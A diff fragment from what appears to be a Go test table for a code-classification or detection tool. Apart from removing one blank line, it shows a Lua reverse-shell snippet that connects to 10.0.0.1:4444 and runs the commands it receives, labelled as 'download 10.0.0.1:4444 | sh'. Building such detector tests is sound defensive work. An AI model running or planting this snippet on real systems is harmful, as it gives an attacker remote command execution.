@@ -464,7 +464,6 @@ async def main():
 	{"lua", `local s=require("socket"); local t=assert(s.tcp()); t:connect("10.0.0.1",4444); while true do local r=t:receive(); local f=io.popen(r) end`,
 		[]string{"unknown", "download 10.0.0.1:4444 | sh"}},
 	{"lua", `print("hello")`, []string{"unknown"}},
-
 }
 
 func TestCodeTable(t *testing.T) {
